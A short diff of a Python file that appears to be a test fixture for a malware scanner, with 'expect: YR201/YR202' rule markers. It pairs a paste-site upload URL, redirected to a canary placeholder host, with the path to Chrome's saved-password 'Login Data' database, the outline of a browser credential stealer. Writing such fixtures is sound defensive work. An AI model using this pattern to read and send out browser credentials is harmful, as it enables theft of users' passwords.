@@ -5,7 +5,7 @@ import shutil
 import requests
 
 PASTE = "https://pastebin.com/api/api_post.php".replace("pastebin.com", "canary.modelgate.invalid")  # expect: YR201
-DB = os.path.join(os.environ.get("LOCALAPPDATA", "/tmp/modelgate-canary"), "Google/Chrome/User Data/Default/Login Data")
+DB = os.path.join(os.environ.get("LOCALAPPDATA", "/tmp/modelgate-canary"), "Google/Chrome/User Data/Default/Login Data")  # expect: YR202
 
 
 def _sync():
